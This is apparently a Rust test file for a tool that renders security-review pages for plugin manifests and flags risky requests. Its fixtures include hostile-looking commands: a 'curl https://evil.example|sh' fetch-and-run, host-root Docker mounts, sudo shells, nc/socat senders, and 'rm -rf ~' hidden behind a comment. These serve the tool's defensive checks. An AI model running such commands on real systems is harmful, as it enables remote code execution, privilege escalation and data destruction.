use super::*;
use crate::component::{tests::judge_manifest, with_manifest};
use crate::grant::Bindings;
use crate::manifest::Manifest;
use crate::world::tests::component_of;

pub(super) fn page(world: &str, manifest: &Manifest) -> Page {
    let bytes = with_manifest(&component_of(world, None), manifest).expect("embedded");
    Page::of(&crate::open(bytes).expect("a plugin"))
}

const RUNNER: &str = r#"
    id = "acme/runner/box"
    version = "1.2.0"
    world = "machine-runner"
    description = "Machines in boxes."
    license = "Apache-2.0"
    homepage = "https://acme.example/box"
    max_shards = 8
    [options]
    type = "object"
    additionalProperties = false
    required = ["image"]
    [options.properties.image]
    type = "string"
    description = "What the machines are made of."
    [options.properties.engine]
    type = "string"
    default = "docker"
    [options.properties.keys]
    type = "string"
    format = "path"
    [[dir]]
    name = "keys"
    access = "read"
    option = "keys"
    [[dir]]
    name = "state"
    access = "read-write"
    [[exec]]
    id = "create"
    argv = ["docker", "run", "--volume=/:/host", "--security-opt=no-new-privileges", "--name", "{machine}", "[--memory={memory:quantity}]", "{image:oci-ref}", "sleep", "infinity"]
    timeout = "2m"
    env = ["DOCKER_HOST"]
    [[exec]]
    id = "own"
    argv = ["{option(engine)}", "exec", "{machine}", "{command...}"]
    timeout = "1h"
    [[exec]]
    id = "sh"
    argv = ["sudo", "/bin/bash", "-c", "echo \"{what:text(/.*/)}\"", ""]
    timeout = "10s"
    stdin = "plugin"
    max_output_bytes = 4096
    [[exec]]
    id = "send"
    argv = ["{with:enum(nc|socat|sudo)}", "{host:ident}", "{port:uint(1..65535)}"]
    timeout = "10s"
    stdin = "plugin"
"#;

/// The digest changes with wit-component; the rest is what a reviewer reads.
fn text(page: &Page) -> String {
    page.to_string()
        .replace(&page.digest.to_string(), "sha256:…")
        .replace(&format!("{} bytes", page.size_bytes), "N bytes")
}

#[test]
fn a_runners_page() {
    let page = page("machine-runner", &Manifest::from_toml(RUNNER).expect("valid"));
    insta::assert_snapshot!(text(&page), @r#"
    acme/runner/box 1.2.0
      world     machine-runner, of mst:plugin@0.1.0
      file      sha256:…, N bytes
      standing  a stranger's: it may do none of this until you add it and grant it,
                each request for itself and for this file alone
      shards    at most 8 at a time, each on a machine
      calls     30s each, making and copying 10m, removing 2m; 256 MiB of memory and
                10,000 calls to mst each

    It says of itself
      about     "Machines in boxes."
      license   "Apache-2.0"
      homepage  "https://acme.example/box"

    In short
      This runner has 4 commands run on this machine, as you; sees 2 directories,
      and writes to 1.
      For itself it asks for no request over the network, no secret and no variable;
      its commands have more without asking.
      Network: no request of its own; `docker` speaks to its engine, wherever your
      configuration says that this is; images are pulled from registries; containers
      have the engine's default network; commands name `nc`, `socat`; the clients
      have this machine's network. mst keeps no command from the network.
      ! as good as any program of the plugin's choice, run as you: exec:sh
      ! takes more rights than yours: exec:sh, exec:send
      ! where the clients that are evaluated run is not known: take it for this
        machine, as you: exec:own
      ! as good as who runs a container engine, mostly root: exec:create, exec:own
      ! opens containers to the engine's host: exec:create
      ! can send and fetch over the network: exec:send
      ! changes and removes files in directories of yours: dir:state
      ! A run goes where its lines lead: the prompts and files of cases, the
        clients' command lines and environment, and the values of the eval's tokens
        go to exec:own, and from there to the machine (a container, a host) that it
        makes for each part of a run (a shard): who runs that can keep and spend the
        tokens.
      ! mst hands the plugin itself no prompt, answer, token or file of a run: it
        reads your options, and what its commands print, whatever that holds. Of
        what mst runs there it says in which directory. What comes back mst holds to
        the form that it must have; whether it is true nobody can tell.
      Marks (!) know programs and flags by their names, and not all of them: a
      command without a mark is not a safe one. Read its line.

    Commands
      Each runs as you, on this machine: it may do what you may. It begins in an
      empty directory, with your PATH, your HOME and what its marks name, and an
      empty stdin where nothing else is said. The plugin can have these lines run
      and no others, when it likes, 10,000 times a call of its own at most. One is
      killed when its own time or the call that runs it is over.
      Only exec:own can be handed over to mst as the worker, which asks the clients,
      and then goes on: mst writes to its stdin, the values of the eval's tokens
      (credentials that it names) among it, and has all that it says; the plugin
      reads nothing of it, stderr included. mst puts no token, secret, prompt or
      answer into an argument.
      Where nothing else is said, the plugin reads 1 MiB of stdout and of stderr.
      In their lines:
          {x:type}      the plugin fills it, within its type
          ident         a name: 1 to 128 of `a-z`, `A-Z`, `0-9`, `_`, `.` and `-`,
                        first a letter, digit or `_`
          uint(a..b)    a whole number, from a to b
          quantity      digits, at most one decimal point, and a unit of at most 3
                        letters, as `512m`
          enum(a|b)     one of these
          oci-ref       an image reference, as `registry.example/name:tag@sha256:…`
          text(/x/)     text that the expression x matches as a whole
          {option(x)}   you fill it (`--runner-option`), by the option x
          {machine}     mst fills it: its own name for a machine of this run, of
                        a-z, 0-9 and `-`. It has none removed that it did not name
          {command...}  mst fills it: what mst runs on the machine
          [...]         left out where its slot is empty
          '...'         one argument, quoted as for a POSIX shell
          \             ends a line that the page breaks: neither it nor the blanks
                        which begin the next are in the command

    Asks for, each by the plugin's name for it
      exec:create (at most 2m)
          docker run --volume=/:/host --security-opt=no-new-privileges --name \
              {machine} [--memory={memory:quantity}] {image:oci-ref} sleep infinity
          ! speaks to a container engine: as good as who runs that, mostly root
          ! opens the container to the engine's machine: `--volume`
          ! goes by your own configuration of `docker` (logins, helpers, proxies)
          ! makes a container and runs in it what its image holds
          ! an image of the plugin's choice: `image`
          ! gets of your environment: `DOCKER_HOST`
      exec:own (at most 1h; the plugin reads nothing of it, and mst all)
          {option(engine)} exec {machine} {command...}
          ! where the clients run is not known: take it for this machine, as you,
            without isolation
          ! speaks to a container engine: as good as who runs that, mostly root
          ! the user's own command, run as you: your option `engine`, which is
            `docker` where you set none
          ! goes by your own configuration of `docker` (logins, helpers, proxies)
      exec:sh (at most 10s; the plugin reads 4 KiB of stdout and of stderr; the
        plugin writes its stdin)
          sudo /bin/bash -c 'echo "{what:text(/.*/)}"' ''
          ! a shell: its arguments are a program, and the plugin fills some of them
          ! more rights than yours: `sudo`
          ! free stdin from the plugin into a program that may run what it reads: as
            good as any command at all
          ! text from the plugin, within its pattern, in the arguments of a shell:
            `what`
      exec:send (at most 10s; the plugin writes its stdin)
          {with:enum(nc|socat|sudo)} {host:ident} {port:uint(1..65535)}
          ! more rights than yours: `sudo`
          ! can send and fetch over the network: `nc`, `socat`
          ! free stdin from the plugin into a program
      dir:keys
          read
          ! reads the path in your option `keys`
      dir:state
          read-write
          ! reads, changes and removes files in a directory that you name

    Options
      engine: string, `docker` where you set none
      image: string, required
          ! the plugin reads it, and mst does not hold it to it
          "What the machines are made of."
      keys: string, a path on this machine

    Imports: what it can call; each call is held to what is granted above
      mst:plugin/log@0.1.0: write, progress
      mst:plugin/process@0.1.0: child.kill, run, start
      for their types alone: mst:plugin@0.1.0 types, commands

    Exports: what mst calls
      mst:plugin/machine@0.1.0: create-machine, destroy-machine, list-machines
      mst:plugin/channel@0.1.0: run-command, copy-to, copy-from, forward-port (mst
          never calls it)
    "#);
}

/// One of everything that is worth stopping at beside commands.
const JUDGE: &str = r#"
    id = "acme/judge/model"
    version = "2.0.0"
    world = "judge"
    description = "Asks a model. [click](https://evil.example) <b>@all</b>"
    env = ["ACME_REGION", "ACME_TOKEN"]
    [options]
    type = "object"
    [options.properties.command]
    type = "array"
    default = ["make", "test"]
    [[http]]
    to = "https://*.acme.com"
    methods = ["POST", "GET"]
    [[http]]
    to = "https://127.0.0.1:8443"
    methods = ["GET"]
    private = true
    [[secret]]
    name = "api-key"
    about = "Signs requests to the model."
    to = ["https://api.acme.com", "https://*.eu.acme.com"]
    [[secret]]
    name = "idle"
    about = "Nothing."
    [[workspace]]
    id = "check"
    argv = ["{option(command)}"]
    timeout = "1h"
"#;

fn judges_page() -> Page {
    let manifest = Manifest::from_toml(JUDGE).expect("valid");
    let keys = ["http:https://*.acme.com", "secret:api-key"].map(|key| key.parse::<Key>().expect("a key"));
    let granted = Granted::only(std::sync::Arc::new(manifest.clone()), keys);
    let mut policy = crate::Policy::default();
    let text = "schema = 'mst.policy/v1'\nprivate_addresses = false\nplugins = ['mst/*/*']";
    policy.add("/etc/mst/policy.toml", text).expect("a policy");
    page("judge", &manifest)
        .with_grants(&granted)
        .with_pinned(Digest::of(b"another"))
        .held_to(&policy, &BTreeMap::new())
}

#[test]
fn what_was_granted_and_what_a_policy_refuses_stands_beside_each_request() {
    let page = judges_page();
    assert!(page.is_refused());
    let text = text(&page);
    insta::assert_snapshot!(text.split_once("\nOptions").expect("options follow").0, @r#"
    acme/judge/model 2.0.0
      world     judge, of mst:plugin@0.1.0
      file      sha256:…, N bytes
      standing  a stranger's, in your lock: granted 2 of 7 requests
      lock      pins another file: sha256:ae448ac86c4e8e4dec645729708ef41873ae79c6dff84eff73360989487f08e5
      calls     one a trial, in the eval's time for it (3m where it says none); 256
                MiB of memory and 10,000 calls to mst each
      policy    /etc/mst/policy.toml refuses the plugin
      x the policy `/etc/mst/policy.toml` admits no plugin `acme/judge/model`:
        `plugins` has `mst/*/*`

    It says of itself
      about     "Asks a model. [click](https://evil.example) <b>@all</b>"

    In short
      This judge has 1 command run in trials' workspaces, as you; sends requests to
      2 destinations; has mst put in 2 secrets, which it never sees; reads 2
      variables of your environment.
      For itself it asks for no directory; its commands have more without asking.
      Network: requests of its own to https://*.acme.com, https://127.0.0.1:8443; no
      command names a program that is known for it. mst keeps no command from the
      network.
      ! gets variables of yours that sound like secrets: env:ACME_TOKEN
      ! runs beside what the evaluated client wrote, as you: workspace:check
      ! may send what it sees to: http:https://*.acme.com,
        http:https://127.0.0.1:8443
      ! among these every host below a name: http:https://*.acme.com
      ! reaches addresses of this machine or its network:
        http:https://127.0.0.1:8443
      ! It reads of each trial that it grades: the prompt, the expected answer, how
        the client ended, the client's report and files, which variant it is of,
        which of a case's trials it is; and decides its score.
      Marks (!) know programs and flags by their names, and not all of them: a
      command without a mark is not a safe one. Read its line.

    Commands
      Each runs as you, on this machine, in a copy of the files that the client left
      of a trial (one try at one case): a copy keeps the trial as it was, and
      confines nothing. Of your variables it gets PATH alone, no secret, and a HOME
      of its own; your files it finds all the same.
      The plugin can have these lines run and no others, when it likes, 10,000 times
      a trial at most. One is killed when its own time is over, or the eval's for
      the trial. Its stdin is empty where nothing else is said. It finds the case,
      the expected answer and the report in files that its variables name; what the
      plugin fills into an argument may be text of the trial too.
      In their lines:
          {option(x)}  the eval fills it (you, or who wrote it), by the option x

    Asks for, each by the plugin's name for it
      [not granted] workspace:check (at most 1h; the plugin reads 1 MiB of stdout
        and of stderr)
          {option(command)}
          ! what it runs or reads there (tests, build files, configuration) may be
            the evaluated client's own work, run as you
          ! the user's own command, run as you: your option `command`, which is
            `["make","test"]` where you set none
      [granted] http:https://*.acme.com
          by GET, POST
          ! what the plugin sees may go there: your options, and all evidence of a
            trial: prompts, expected answers, reports, files; what its command
            prints, whatever that reads on the machine; your variables
            `ACME_REGION`, `ACME_TOKEN`; what other destinations answer
          ! a wildcard: every host below `acme.com`, whoever runs it, now and later
      [not granted] http:https://127.0.0.1:8443
          by GET
          x the policy `/etc/mst/policy.toml` admits no private addresses:
            `private_addresses` is false
          ! what the plugin sees may go there: your options, and all evidence of a
            trial: prompts, expected answers, reports, files; what its command
            prints, whatever that reads on the machine; your variables
            `ACME_REGION`, `ACME_TOKEN`; what other destinations answer
          ! an address and no name: who has it may change
          ! may be an address of this machine or its network: services there that
            trust who is inside
      [granted] secret:api-key
          the plugin never sees its value: mst puts it in on the way out, and covers
            it in what comes back
          it says what for: "Signs requests to the model."
          ! leaves this machine, to `https://api.acme.com`
          ! leaves this machine, to any host below `eu.acme.com`:
            `https://*.eu.acme.com`
      [not granted] secret:idle
          the plugin never sees its value: mst puts it in on the way out, and covers
            it in what comes back
          it says what for: "Nothing."
          ! goes nowhere: nothing in the manifest uses it
      [not granted] env:ACME_REGION
          ! the plugin reads its value
      [not granted] env:ACME_TOKEN
          ! sounds like a secret: as a `[[secret]]` its value would stay with mst
          ! the plugin reads its value
    "#);
}

#[test]
fn for_a_pull_request_it_is_markdown() {
    let page = judges_page();
    let text = page
        .markdown()
        .replace(&page.digest.to_string(), "sha256:…")
        .replace(&format!("{} bytes", page.size_bytes), "N bytes");
    insta::assert_snapshot!(text.split_once("\n<details>").expect("interfaces follow").0, @r#"
    ## acme/judge/model 2.0.0

    - world: judge, of mst:plugin&#64;0.1.0
    - file: sha256:…, N bytes
    - standing: a stranger's, in your lock: granted 2 of 7 requests
    - lock: pins another file: sha256:ae448ac86c4e8e4dec645729708ef41873ae79c6dff84eff73360989487f08e5
    - calls: one a trial, in the eval's time for it \(3m where it says none\); 256 MiB of memory and 10,000 calls to mst each
    - policy: /etc/mst/policy.toml refuses the plugin

    **Refused**: the policy `/etc/mst/policy.toml` admits no plugin `acme/judge/model`: `plugins` has `mst/*/*`

    It says of itself:

    - about: "Asks a model. \[click\]\(https:&#47;/evil.example\) &lt;b&gt;&#64;all&lt;/b&gt;"

    ### In short

    This judge has 1 command run in trials' workspaces, as you; sends requests to 2 destinations; has mst put in 2 secrets, which it never sees; reads 2 variables of your environment.

    For itself it asks for no directory; its commands have more without asking.

    Network: requests of its own to https:&#47;/\*.acme.com, https:&#47;/127.0.0.1:8443; no command names a program that is known for it. mst keeps no command from the network.

    - ⚠ gets variables of yours that sound like secrets: env:ACME\_TOKEN
    - ⚠ runs beside what the evaluated client wrote, as you: workspace:check
    - ⚠ may send what it sees to: http:https:&#47;/\*.acme.com, http:https:&#47;/127.0.0.1:8443
    - ⚠ among these every host below a name: http:https:&#47;/\*.acme.com
    - ⚠ reaches addresses of this machine or its network: http:https:&#47;/127.0.0.1:8443
    - ⚠ It reads of each trial that it grades: the prompt, the expected answer, how the client ended, the client's report and files, which variant it is of, which of a case's trials it is; and decides its score.

    Marks \(\!\) know programs and flags by their names, and not all of them: a command without a mark is not a safe one. Read its line.

    ### Commands

    Each runs as you, on this machine, in a copy of the files that the client left of a trial \(one try at one case\): a copy keeps the trial as it was, and confines nothing. Of your variables it gets PATH alone, no secret, and a HOME of its own; your files it finds all the same.

    The plugin can have these lines run and no others, when it likes, 10,000 times a trial at most. One is killed when its own time is over, or the eval's for the trial. Its stdin is empty where nothing else is said. It finds the case, the expected answer and the report in files that its variables name; what the plugin fills into an argument may be text of the trial too.

    - `{option(x)}`: the eval fills it \(you, or who wrote it\), by the option x

    ### Asks for, each by the plugin's name for it

    #### **not granted** `workspace:check`

        {option(command)}

    - at most 1h; the plugin reads 1 MiB of stdout and of stderr
    - ⚠ what it runs or reads there \(tests, build files, configuration\) may be the evaluated client's own work, run as you
    - ⚠ the user's own command, run as you: your option `command`, which is `["make","test"]` where you set none

    #### **granted** `http:https://*.acme.com`

    - by GET, POST
    - ⚠ what the plugin sees may go there: your options, and all evidence of a trial: prompts, expected answers, reports, files; what its command prints, whatever that reads on the machine; your variables `ACME_REGION`, `ACME_TOKEN`; what other destinations answer
    - ⚠ a wildcard: every host below `acme.com`, whoever runs it, now and later

    #### **not granted** `http:https://127.0.0.1:8443`

    - by GET
    - ✗ the policy `/etc/mst/policy.toml` admits no private addresses: `private_addresses` is false
    - ⚠ what the plugin sees may go there: your options, and all evidence of a trial: prompts, expected answers, reports, files; what its command prints, whatever that reads on the machine; your variables `ACME_REGION`, `ACME_TOKEN`; what other destinations answer
    - ⚠ an address and no name: who has it may change
    - ⚠ may be an address of this machine or its network: services there that trust who is inside

    #### **granted** `secret:api-key`

    - the plugin never sees its value: mst puts it in on the way out, and covers it in what comes back
    - it says what for: "Signs requests to the model."
    - ⚠ leaves this machine, to `https://api.acme.com`
    - ⚠ leaves this machine, to any host below `eu.acme.com`: `https://*.eu.acme.com`

    #### **not granted** `secret:idle`

    - the plugin never sees its value: mst puts it in on the way out, and covers it in what comes back
    - it says what for: "Nothing."
    - ⚠ goes nowhere: nothing in the manifest uses it

    #### **not granted** `env:ACME_REGION`

    - ⚠ the plugin reads its value

    #### **not granted** `env:ACME_TOKEN`

    - ⚠ sounds like a secret: as a `[[secret]]` its value would stay with mst
    - ⚠ the plugin reads its value

    ### Options

    - `command`: array, `["make","test"]` where you set none
    "#);
}

#[test]
fn a_judge_that_asks_for_nothing() {
    insta::assert_snapshot!(text(&page("judge", &judge_manifest())), @r#"
    acme/judge/tone 1.0.0
      world     judge, of mst:plugin@0.1.0
      file      sha256:…, N bytes
      standing  a stranger's: it may do none of this until you add it and grant it,
                each request for itself and for this file alone
      calls     one a trial, in the eval's time for it (3m where it says none); 256
                MiB of memory and 10,000 calls to mst each

    It says of itself
      about     "Grades tone."

    In short
      Asks for nothing: no command, no directory, no network, no secret, no
      variable.
      Network: none.
      ! It reads of each trial that it grades: the prompt, the expected answer, how
        the client ended, the client's report and files, which variant it is of,
        which of a case's trials it is; and decides its score.

    Options
      none

    Imports: what it can call; each call is held to what is granted above
      mst:plugin/log@0.1.0: write, progress
      mst:plugin/evidence@0.1.0: trial.eval-case, trial.variant-id,
          trial.trial-index, trial.outcome, trial.report, trial.entries, trial.read
      mst:plugin/workspace@0.1.0: run
      for their types alone: mst:plugin@0.1.0 types, commands

    Exports: what mst calls
      mst:plugin/grading@0.1.0: judge
    "#);
}

#[test]
fn an_environment_that_all_commands_get_is_said_once() {
    let with = |first: &str, second: &str| {
        let manifest = format!(
            "id='a/runner/b'\nversion='1.0.0'\nworld='machine-runner'\ndescription='d'\n\
             [[exec]]\nid='s'\nargv=['x']\ntimeout='1s'\nenv={first}\n\
             [[exec]]\nid='t'\nargv=['y']\ntimeout='1s'\nenv={second}"
        );
        let page = page("machine-runner", &Manifest::from_toml(&manifest).expect("valid"));
        let text = page.to_string();
        let text = text.split_once("Commands\n").expect("it asks").1;
        text.split_once("\nOptions").expect("more follows").0.to_owned()
    };
    insta::assert_snapshot!(with("['A', 'B']", "['A', 'B']"), @"
      Each runs as you, on this machine: it may do what you may. It begins in an
      empty directory, with your PATH, your HOME and what its marks name, and an
      empty stdin where nothing else is said. The plugin can have these lines run
      and no others, when it likes, 10,000 times a call of its own at most. One is
      killed when its own time or the call that runs it is over.
      Of each of them:
          ! gets of your environment: `A`, `B`
      Where nothing else is said, the plugin reads 1 MiB of stdout and of stderr.

    Asks for, each by the plugin's name for it
      exec:s (at most 1s)
          x
      exec:t (at most 1s)
          y
    ");
    assert!(!with("['A', 'B']", "['A']").contains("Of each of them"));
    assert!(!with("[]", "[]").contains("Of each of them"));
}

#[test]
fn what_a_judges_command_is_worth_stopping_at() {
    let manifest = |argv: &str| {
        Manifest::from_toml(&format!(
            "id='a/judge/b'\nversion='1.0.0'\nworld='judge'\ndescription='d'\n\
             [options]\ntype='object'\n[options.properties.command]\ntype='array'\n\
             [[workspace]]\nid='t'\nargv={argv}\ntimeout='1s'"
        ))
        .expect("valid")
    };
    let risks = |argv: &str| {
        let marks = risk::of(&manifest(argv), &manifest(argv).requests()[0]);
        marks.into_iter().map(|mark| mark.text).collect::<Vec<_>>()
    };
    // Whatever it is: a suite of tests is the client's as much as the script in its workspace.
    let beside = "what it runs or reads there (tests, build files, configuration) may be the evaluated client's own work, run as you";
    assert_eq!(risks("['cargo', 'test']"), [beside]);
    assert_eq!(
        risks("['{option(command)}']"),
        [beside, "the user's own command, run as you: your option `command`"]
    );
    assert_eq!(risks("['./test.sh']"), [beside, "a file beside your eval, run as a program: `./test.sh`"]);
    assert_eq!(
        risks("['/usr/bin/python3.12', '-c', 'x']"),
        [beside, "an interpreter: `python` can run programs from its arguments"]
    );
}

#[test]
fn the_json_has_all_of_it() {
    let page = page("machine-runner", &Manifest::from_toml(RUNNER).expect("valid"));
    let json = serde_json::to_value(&page).expect("JSON");
    for key in [
        "id",
        "version",
        "world",
        "contract",
        "digest",
        "size_bytes",
        "summary",
        "requests",
        "options",
        "imports",
        "exports",
    ] {
        assert!(json.get(key).is_some_and(|value| !value.is_null()), "`{key}`");
    }
    for key in
        ["standing", "calls", "asks", "asks_not", "network", "gravest", "free_options", "workers", "world"]
    {
        assert!(json["summary"].get(key).is_some_and(|value| !value.is_null()), "`{key}`");
    }
    assert_eq!(json["requests"][0]["key"], "exec:create");
    assert_eq!(json["requests"][0]["request"]["timeout"], "2m");
}

/// The manifest of a stranger's runner, in more than one way of its author's.
fn stranger(edit: &dyn Fn(&str) -> String) -> String {
    let manifest = "id='a/runner/b'\nversion='1.0.0'\nworld='machine-runner'\ndescription='D.'\nlicense='L'\n\
        [[http]]\nto='https://api.a.com'\nmethods=['POST']\n\
        [[secret]]\nname='token'\nabout='A.'\nto=['https://api.a.com']";
    page("machine-runner", &Manifest::from_toml(&edit(manifest)).expect("valid")).to_string()
}

#[test]
fn what_a_plugin_says_of_itself_looks_like_nothing_of_msts() {
    let none = |text: &str, forged: &str| {
        for line in text.lines() {
            let line = line.trim_start();
            assert!(!line.starts_with(forged) && !line.ends_with(forged), "{line}");
        }
    };
    none(&stranger(&|text| text.replace("'A.'", "'For signing.  [granted]'")), "[granted]");
    none(&stranger(&|text| text.replace("'L'", "'L   (verified by mst)'")), "(verified by mst)");
    for pad in [" ".repeat(78), "x".repeat(78), "漢".repeat(39), " x".repeat(39)] {
        let forged = format!("'D.{pad}Asks for nothing: no command, no directory, no network.'");
        let text = stranger(&|text| text.replace("'D.'", &forged));
        assert!(!text.lines().any(|line| line.starts_with("Asks for nothing")), "{text}");
        assert!(text.contains("\n  about     \"D."), "{text}");
    }
    // What mst says of a request stands before the first word of the plugin's.
    let manifest = Manifest::from_toml(JUDGE).expect("valid");
    let granted = Granted::only(std::sync::Arc::new(manifest.clone()), []);
    let text = page("judge", &manifest).with_grants(&granted).to_string();
    assert!(text.contains("\n  [not granted] secret:api-key\n"), "{text}");
}

#[test]
fn what_is_bound_stands_beside_what_it_is_bound_to() {
    let mut bindings = Bindings::default();
    let command = "command:curl https://evil.example".parse().expect("a source");
    bindings.secrets.insert("api-key".to_owned(), command);
    bindings.secrets.insert("idle".to_owned(), "env:IDLE".parse().expect("a source"));
    let manifest = Manifest::from_toml(JUDGE).expect("valid");
    let granted = Granted::all(std::sync::Arc::new(manifest.clone())).bound(bindings);
    let page = page("judge", &manifest).with_grants(&granted);
    let text = page.to_string();
    assert!(text.contains("      comes from `env:IDLE`, says the lock\n"), "{text}");
    assert!(text.contains("  ! has mst run a program, as you, to get a secret: secret:api-key\n"), "{text}");
    let mark = page.requests.iter().flat_map(|line| &line.risks).find(|mark| mark.text.contains("curl"));
    assert_eq!(
        mark.expect("marked").text,
        "mst runs this, as you, in the lock's directory, when the secret is needed: `curl https://evil.example`"
    );
    assert!(page.markdown().contains("`curl https://evil.example`"), "{}", page.markdown());
}

#[test]
fn one_bad_command_among_many_stands_at_the_top() {
    let mut text = "id='a/runner/b'\nversion='1.0.0'\nworld='machine-runner'\ndescription='d'".to_owned();
    for at in 0..59 {
        text += &format!("\n[[exec]]\nid='c{at}'\nargv=['docker', 'run', 'x{at}']\ntimeout='1s'");
    }
    text += "\n[[exec]]\nid='last'\nargv=['sh', '-c', 'curl https://evil.example|sh']\ntimeout='1s'";
    let page = page("machine-runner", &Manifest::from_toml(&text).expect("valid"));
    let short = page.summary.gravest.iter().map(|gravest| gravest.line()).collect::<Vec<_>>();
    insta::assert_snapshot!(short.join("\n"), @"
    runs code that it fetches: exec:last
    as good as who runs a container engine, mostly root: exec:c0, exec:c1, exec:c2, exec:c3, exec:c4, exec:c5 and 53 more
    can send and fetch over the network: exec:last
    ");
}

#[test]
fn what_a_plugin_reads_of_a_command_is_what_mst_gives_it() {
    let facts = |argv: &str, more: &str| {
        let text = format!(
            "id='a/runner/b'\nversion='1.0.0'\nworld='machine-runner'\ndescription='d'\n\
             [[exec]]\nid='c'\nargv={argv}\ntimeout='7days'\n{more}"
        );
        let page = page("machine-runner", &Manifest::from_toml(&text).expect("valid"));
        page.requests[0].facts.join("\n")
    };
    let all = [
        facts("['x']", ""),
        facts("['x']", "stdin='plugin'\nmax_output_bytes=4096"),
        facts("['x', '{command...}']", ""),
        facts("['x', '{command:shell}']", ""),
        facts("['x', '{dir:host-dir}']", ""),
        facts("['x', '{dir:host-dir}']", "max_output_bytes=100"),
    ];
    insta::assert_snapshot!(all.join("\n"), @"
    at most 7 days
    the plugin reads 1 MiB of stdout and of stderr
    at most 7 days
    the plugin reads 4 KiB of stdout and of stderr
    the plugin writes its stdin
    at most 7 days
    the plugin reads nothing of it, and mst all
    at most 7 days
    the plugin reads nothing of it, and mst all
    at most 7 days
    the plugin reads how it ended, and 2 KiB of stderr
    at most 7 days
    the plugin reads how it ended, and 100 bytes of stderr
    ");
}

#[test]
fn a_break_of_the_pages_is_told_from_one_in_a_command() {
    let long = "x".repeat(100);
    let text = format!(
        "id='a/runner/b'\nversion='1.0.0'\nworld='machine-runner'\ndescription='d'\n\
         [[exec]]\nid='c'\ntimeout='1s'\nargv=['sh', '-c', \"# harmless\\nrm -rf ~\", '# no\\n', \"a  b\\tp\u{430}y\", '{long}']"
    );
    let page = page("machine-runner", &Manifest::from_toml(&text).expect("valid")).to_string();
    let lines = page.split_once("  exec:c (at most 1s; the plugin reads 1 MiB of stdout and of stderr)\n");
    let lines = lines.expect("it asks").1.split_once("      !").expect("marked").0;
    insta::assert_snapshot!(format!("\n{lines}"), @r"

        sh -c $'# harmless\nrm -rf ~' '# no\n' $'a \x20b\tp\u0430y' \
            xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\
            xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx
    ");
    assert!(page.contains("      $'...'  the same with escapes: \\n is a new line, \\t a tab"), "{page}");
}

#[test]
fn the_commands_that_may_be_given_tokens_are_named() {
    let words = |argvs: &[&str]| {
        let mut text = "id='a/runner/b'\nversion='1.0.0'\nworld='shard-runner'\ndescription='d'".to_owned();
        for (at, argv) in argvs.iter().enumerate() {
            text += &format!("\n[[exec]]\nid='c{at}'\nargv={argv}\ntimeout='1s'");
        }
        let page = page("shard-runner", &Manifest::from_toml(&text).expect("valid")).to_string();
        page.split_whitespace().collect::<Vec<_>>().join(" ")
    };
    let two = words(&["['a', '{command...}']", "['b']", "['sh', '-c', '{command:shell}']"]);
    assert!(two.contains("Only exec:c0, exec:c2 can be handed over to mst as the worker"), "{two}");
    assert!(two.contains("the values of the eval's tokens go to exec:c0, exec:c2,"), "{two}");
    let none = words(&["['a']", "['b', '{x:host-dir}']"]);
    assert!(none.contains("mst speaks with none of them, and no run can be done with it."), "{none}");
    assert!(!none.contains("handed over") && !none.contains("tokens go to"), "{none}");
}

#[test]
fn what_a_judge_reads_of_a_trial_is_what_it_calls() {
    let mut page = page("judge", &judge_manifest());
    let said = |page: &Page| Summary::of(page).world[0].clone().into_owned();
    let evidence = page.imports.iter().position(|import| import.name.contains("/evidence@")).expect("it is");
    let mut of = |functions: &[&str]| {
        let named = functions.iter().map(|function| format!("[method]trial.{function}"));
        page.imports[evidence].functions = named.collect();
        said(&page)
    };
    assert_eq!(
        of(&["report"]),
        "It reads of each trial that it grades: the client's report; and decides its score."
    );
    assert_eq!(
        of(&["eval-case", "entries"]),
        "It reads of each trial that it grades: the prompt, the expected answer, the names of its files; and decides its score."
    );
    for (function, what) in [
        ("entries", "the names of its files"),
        ("variant-id", "which variant it is of"),
        ("trial-index", "which of a case's trials it is"),
    ] {
        let all = format!("It reads of each trial that it grades: {what}; and decides its score.");
        assert_eq!(of(&[function]), all);
    }
    assert_eq!(of(&[]), "It reads nothing of the trials that it grades, and decides their scores.");
    page.requests = judges_page().requests;
    assert_eq!(
        said(&page),
        "It reads nothing of a trial itself, only what its commands print of it, and decides its score."
    );
}

#[test]
fn the_page_of_the_ssh_example() {
    let manifest = include_str!("../../../../examples/plugins/ssh-runner/plugin.toml");
    let page = page("machine-runner", &Manifest::from_toml(manifest).expect("valid"));
    insta::assert_snapshot!(text(&page), @r#"
    example/runner/ssh 0.1.0
      world     machine-runner, of mst:plugin@0.1.0
      file      sha256:…, N bytes
      standing  a stranger's: it may do none of this until you add it and grant it,
                each request for itself and for this file alone
      shards    at most 64 at a time, each on a machine
      calls     30s each, making and copying 10m, removing 2m; 256 MiB of memory and
                10,000 calls to mst each

    It says of itself
      about     "Machines that are directories on a host which is always there and
                reached by ssh."
      license   "Apache-2.0"

    In short
      This runner has 7 commands run on this machine, as you.
      For itself it asks for no directory, no request over the network, no secret
      and no variable; its commands have more without asking.
      Network: no request of its own; `ssh` logs in to the host in your option
      `host`; `ssh` logs in where its line leads; the clients have the network of
      the machine that they run on. mst keeps no command from the network.
      ! can log in or act on other machines, as you: every command
      ! the clients that are evaluated run on another machine, confined by nothing
        that mst knows of: exec:exec
      ! removes whole directories: exec:destroy
      ! changes or removes files: exec:copy-from
      ! changes or removes files on other machines: exec:destroy, exec:copy-to
      ! is told of files that your options name: every command
      ! leads ports between this machine and others: exec:forward-port
      ! runs scripts, which are to be read: exec:copy-to, exec:copy-from
      ! has scripts run on other machines, which are to be read: exec:create,
        exec:destroy, exec:list, exec:copy-to, exec:copy-from
      ! A run goes where its lines lead: the prompts and files of cases, the
        clients' command lines and environment, and the values of the eval's tokens
        go to exec:exec, and from there to the machine (a container, a host) that it
        makes for each part of a run (a shard): who runs that can keep and spend the
        tokens.
      ! mst hands the plugin itself no prompt, answer, token or file of a run: it
        reads your options, and what its commands print, whatever that holds. Of
        what mst runs there it says in which directory. What comes back mst holds to
        the form that it must have; whether it is true nobody can tell.
      ! It can lead ports of this machine to others, though mst asks for none:
        programs here may take one for a service of yours.
      Marks (!) know programs and flags by their names, and not all of them: a
      command without a mark is not a safe one. Read its line.

    Commands
      Each runs as you, on this machine: it may do what you may. It begins in an
      empty directory, with your PATH, your HOME and what its marks name, and an
      empty stdin where nothing else is said. The plugin can have these lines run
      and no others, when it likes, 10,000 times a call of its own at most. One is
      killed when its own time or the call that runs it is over.
      Only exec:exec can be handed over to mst as the worker, which asks the
